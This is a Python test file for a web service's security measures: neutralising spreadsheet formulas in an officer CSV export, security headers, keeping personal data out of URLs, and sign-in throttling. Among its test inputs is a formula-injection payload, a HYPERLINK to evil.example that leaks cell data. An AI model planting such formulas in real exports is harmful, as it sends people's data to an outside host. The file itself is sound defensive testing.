"""The pages under attack: formulas in the officer CSV, security headers, personal data in the
results page's URLs, officer sign-in throttling and bounded password hashing."""

from __future__ import annotations

import csv
import html
import io
import re
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from service.db import Role
from service.runtime import ServedCatalog
from service.web.login_guard import MAX_FAILURES, guard_of
from service.web.officer import spreadsheet_safe
from service.web.users import create_user
from tests.service.test_ratelimit import REDIS_URL, fresh_address, redis_reachable
from tests.web.test_pages import FORM, PASSWORD, form_token

GSTIN = "27AAPFU0939F1ZV"  # the checksum-valid example of the form's own hint
NAME = "Meera Zari Works"


def _repost(web: TestClient, url: str, pairs: list[tuple[str, str]]) -> Any:
    """Post (field, value) pairs as the browser posts a form (a field may repeat)."""
    from urllib.parse import urlencode

    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    return web.post(url, content=urlencode(pairs), headers=headers)


def _sign_in(web: TestClient, username: str, password: str) -> Any:
    token = form_token(web.get("/officer").text)
    return web.post(
        "/officer/login",
        data={"username": username, "password": password, "csrf_token": token},
        follow_redirects=False,
    )


# --- 3. formulas in the CSV export ---------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+91 98200 12345", "'+91 98200 12345"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Sanganer Prints", "Sanganer Prints"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, safe: str) -> None:
    assert spreadsheet_safe(cell) == safe


def test_csv_export_neutralises_a_formula_in_a_public_form_name(
    web: TestClient, session: Session
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")'
    page = web.post("/results", data={**FORM, "name": formula, "consent": "yes"})
    assert page.status_code == 200, page.text
    create_user(session, "asha", PASSWORD, Role.OFFICER)
    session.commit()
    assert _sign_in(web, "asha", PASSWORD).status_code == 303
    exported = web.get("/officer/export.csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    names = [row["name"] for row in rows]
    assert "'" + formula in names
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# --- 9. security headers ------------------------------------------------------------------


def _pages(web: TestClient, session: Session) -> dict[str, Any]:
    create_user(session, "asha", PASSWORD, Role.OFFICER)
    session.commit()
    pages = {
        "form": web.get("/"),
        "results": web.post("/results", data=FORM),
        "form with errors": web.post("/results", data={**FORM, "pincode": "1"}),
        "embed docs": web.get("/docs/embed"),
        "officer sign-in": web.get("/officer"),
    }
    assert _sign_in(web, "asha", PASSWORD).status_code == 303
    pages["officer queue"] = web.get("/officer")
    pages["officer charts"] = web.get("/officer/charts")
    return pages


def test_every_page_carries_the_security_headers(web: TestClient, session: Session) -> None:
    for name, page in _pages(web, session).items():
        assert page.headers["content-type"].startswith("text/html"), name
        csp = page.headers.get("content-security-policy", "")
        assert "frame-ancestors 'none'" in csp, name
        assert "script-src 'self'" in csp, name
        assert "unsafe-inline" not in csp, name
        assert page.headers.get("x-frame-options") == "DENY", name
        assert page.headers.get("x-content-type-options") == "nosniff", name
        assert page.headers.get("referrer-policy") == "strict-origin-when-cross-origin", name


def test_pages_need_nothing_inline_that_the_policy_forbids(
    web: TestClient, session: Session
) -> None:
    """The policy allows only this server's script and style files: no page may carry an
    inline script, style element, style attribute or event handler attribute."""
    for name, page in _pages(web, session).items():
        text = page.text
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", text), name
        assert "<style" not in text, name
        assert not re.search(r"\sstyle=", text), name
        assert not re.search(r"\son[a-z]+=", text), name
    script = web.get("/embed.js")
    assert script.headers["x-content-type-options"] == "nosniff"
    assert 'el("style")' not in script.text  # the widget links its style sheet instead
    sheet = web.get("/static/embed.css")
    assert sheet.status_code == 200
    assert sheet.headers["content-type"].startswith("text/css")
    assert ":host" in sheet.text


# --- 9. personal data stays out of the results page's URLs ---------------------------------


def _urls(page: str) -> list[str]:
    return [html.unescape(u) for u in re.findall(r'(?:href|src|action|formaction)="([^"]*)"', page)]


@pytest.mark.parametrize("consent", [False, True])
def test_no_url_on_the_results_page_carries_personal_data(
    web: TestClient, consent: bool
) -> None:
    answers = {**FORM, "name": NAME, "gstin": GSTIN, "products": "zari sarees for Dubai"}
    if consent:
        answers["consent"] = "yes"
    page = web.post("/results?lang=en", data=answers)
    assert page.status_code == 200, page.text
    urls = _urls(page.text)
    assert any("lang=hi" in u for u in urls)  # the language switch is still there
    for url in urls:
        for personal in (NAME, "Meera", GSTIN, "zari", "302001", "handicrafts"):
            assert personal not in url, url
    # Switching language keeps the answers (posted again) and stores nothing twice.
    hidden = re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', page.text)
    fields = [(n, html.unescape(v)) for n, v in hidden]
    assert ("gstin", GSTIN) in fields
    assert ("consent", "yes") not in fields
    hindi = _repost(web, "/results?lang=hi", fields)
    assert hindi.status_code == 200
    assert "आपके व्यवसाय के लिए उपयुक्त सेवाएँ" in hindi.text
    assert ("Your answers are saved" in page.text) is consent
    if consent:
        reference = re.search(r"<code>([0-9a-f]{8})</code>", page.text)
        assert reference
        assert reference.group(1) in hindi.text  # the same stored profile, named again
    for url in _urls(hindi.text):
        assert GSTIN not in url


def test_consent_then_language_switch_stores_one_profile(
    web: TestClient, session: Session
) -> None:
    from sqlalchemy import func, select

    from service.db import Profile

    before = session.scalar(select(func.count()).select_from(Profile))
    page = web.post("/results", data={**FORM, "name": NAME, "consent": "yes"})
    fields = [
        (n, html.unescape(v))
        for n, v in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', page.text)
    ]
    for lang in ("hi", "mr", "en"):
        assert _repost(web, f"/results?lang={lang}", fields).status_code == 200
    # A forged reference is ignored (and, without consent, nothing is stored).
    forged = [(n, "not-signed" if n == "saved" else v) for n, v in fields]
    again = _repost(web, "/results", forged)
    assert "Your answers are saved" not in again.text
    assert session.scalar(select(func.count()).select_from(Profile)) == (before or 0) + 1


def test_results_are_not_served_from_a_url(web: TestClient) -> None:
    """An old language link with the answers in its query no longer renders them."""
    old = web.get(
        f"/results?pincode=302001&sector=handicrafts&name={NAME}&gstin={GSTIN}&lang=hi",
        follow_redirects=False,
    )
    assert old.status_code == 303
    assert old.headers["location"] == "/?lang=hi"


# --- 7. officer sign-in: throttled, hashing bounded ---------------------------------------


@pytest.fixture
def officer(session: Session) -> str:
    create_user(session, "asha", PASSWORD, Role.OFFICER)
    session.commit()
    return "asha"


@pytest.fixture
def app(make_app: Callable[..., FastAPI], served: ServedCatalog) -> FastAPI:
    if served.ranker is None:
        pytest.skip(f"ranking unavailable: {served.problem}")
    return make_app()


@pytest.fixture
def clients(app: FastAPI) -> Iterator[Callable[[str], TestClient]]:
    """TestClients of the same running app, each from its own client address."""
    with TestClient(app, base_url="http://localhost"):  # runs the app's lifespan once

        def client(address: str) -> TestClient:
            return TestClient(app, base_url="http://localhost", client=(address, 50000))

        yield client


def test_failed_sign_ins_for_one_username_are_throttled(
    clients: Callable[[str], TestClient], officer: str
) -> None:
    # From a different address each time: the username's own count stops them.
    for attempt in range(MAX_FAILURES):
        assert _sign_in(clients(f"10.0.0.{attempt}"), officer, "wrong").status_code == 401
    stopped = _sign_in(clients("10.0.1.1"), officer, PASSWORD)  # even the right password
    assert stopped.status_code == 429
    assert 0 < int(stopped.headers["retry-after"]) <= 15 * 60
    assert "Too many failed sign-ins" in stopped.text
    assert "dakmatch_officer" not in stopped.headers.get("set-cookie", "")
    # Another officer is not affected.
    assert _sign_in(clients("10.0.1.2"), "ravi", "wrong").status_code == 401


def test_failed_sign_ins_from_one_address_are_throttled(
    clients: Callable[[str], TestClient], officer: str
) -> None:
    attacker = clients("203.0.113.7")
    for attempt in range(MAX_FAILURES):
        assert _sign_in(attacker, f"guess{attempt}", "wrong").status_code == 401
    stopped = _sign_in(attacker, officer, PASSWORD)
    assert stopped.status_code == 429
    assert int(stopped.headers["retry-after"]) > 0
    # The officer signs in from her own address.
    assert _sign_in(clients("198.51.100.20"), officer, PASSWORD).status_code == 303


def test_a_successful_sign_in_clears_the_usernames_failures(
    clients: Callable[[str], TestClient], officer: str
) -> None:
    for attempt in range(MAX_FAILURES - 1):
        assert _sign_in(clients(f"10.0.2.{attempt}"), officer, "wrong").status_code == 401
    assert _sign_in(clients("10.0.3.1"), officer, PASSWORD).status_code == 303
    for attempt in range(MAX_FAILURES - 1):
        assert _sign_in(clients(f"10.0.4.{attempt}"), officer, "wrong").status_code == 401


def test_password_hashing_is_bounded_also_for_unknown_users(
    app: FastAPI, clients: Callable[[str], TestClient], officer: str
) -> None:
    """With every hashing slot taken, a sign-in waits its bounded turn and is answered 503 with
    Retry-After: an unknown username goes through the same hashing as a known one (equal
    time), and nothing runs beyond the bound."""
    web = clients("192.0.2.1")
    guard = guard_of(app.state)
    guard.hashing_wait = 0.2
    held = 0
    while guard.slots.acquire(blocking=False):
        held += 1
    try:
        assert held >= 1
        for username in (officer, "no-such-user"):
            busy = _sign_in(web, username, PASSWORD)
            assert busy.status_code == 503, username
            assert busy.headers["retry-after"] == "2"
            assert "Too many sign-ins at once" in busy.text
    finally:
        for _ in range(held):
            guard.slots.release()
    assert _sign_in(web, officer, PASSWORD).status_code == 303


def test_the_throttle_is_shared_through_redis(
    make_app: Callable[..., FastAPI], served: ServedCatalog, officer: str
) -> None:
    """With DAKMATCH_REDIS_URL two app processes (here two apps) count one username's
    failures together: the shared limiter of service.ratelimit, namespace officer-login."""
    if not redis_reachable():
        pytest.skip("no Redis at 127.0.0.1:6379")
    if served.ranker is None:
        pytest.skip(f"ranking unavailable: {served.problem}")
    first, second = make_app(redis_url=REDIS_URL), make_app(redis_url=REDIS_URL)
    username = f"nobody-{uuid.uuid4().hex[:12]}"  # a bucket no other run has counted
    address = (fresh_address(), 50000)  # nor this address
    with TestClient(first, base_url="http://localhost", client=address) as one:
        for _ in range(MAX_FAILURES - 2):
            assert _sign_in(one, username, "wrong").status_code == 401
    with TestClient(second, base_url="http://localhost", client=address) as two:
        assert _sign_in(two, username, "wrong").status_code == 401
        assert _sign_in(two, username, "wrong").status_code == 401
        stopped = _sign_in(two, username, "wrong")
        assert stopped.status_code == 429
        assert int(stopped.headers["retry-after"]) > 0
